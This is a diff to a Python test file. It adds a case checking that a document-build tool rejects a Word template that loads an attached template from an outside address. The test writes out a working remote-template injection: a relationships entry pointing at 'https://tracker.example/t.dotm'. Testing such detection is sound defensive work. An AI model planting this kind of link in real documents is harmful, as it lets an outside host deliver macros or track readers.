@@ -139,6 +139,9 @@ def test_a_word_template_file_works_too(project, tmp_path):
     ("handout-template.docx", b"not a Word document", "it cannot be opened as a package of that kind; open it and save it as a Word Document (.docx)"),
     ("slides-template.pptx", b"PK\x03\x04 broken", "it cannot be opened as a package of that kind; open it and save it as a PowerPoint Presentation (.pptx)"),
     ("handout-template.docx", "macros", "it holds macros; save it as a Word Document (.docx), which cannot"),
+    # Template injection: Word fetches an attached template named by address when the handout opens.
+    ("handout-template.docx", "remote template", "it loads 'https://tracker.example/t.dotm' from outside the file when opened; "
+     "save a copy without linked pictures or templates (Word: File, Info, Edit Links to Files, Break Link)"),
 ])
 def test_a_template_that_cannot_be_used_is_named_with_the_reason(project, tmp_path, name, content, reason):
     local = tmp_path / "data" / "local"
@@ -148,6 +151,13 @@ def test_a_template_that_cannot_be_used_is_named_with_the_reason(project, tmp_pa
         shutil.copy(tmp_path / "plain.docx", local / name)
         with zipfile.ZipFile(local / name, "a") as archive:
             archive.writestr("word/vbaProject.bin", b"\x00macro")
+    elif content == "remote template":
+        word_template(tmp_path / "plain.docx")
+        shutil.copy(tmp_path / "plain.docx", local / name)
+        with zipfile.ZipFile(local / name, "a") as archive:
+            archive.writestr("word/_rels/settings.xml.rels", b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                             b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                             b'Target="https://tracker.example/t.dotm" TargetMode="External"/></Relationships>')
     else:
         (local / name).write_bytes(content)
     edition = edition_for(project.data.site, BUILT, None, tmp_path / "data")
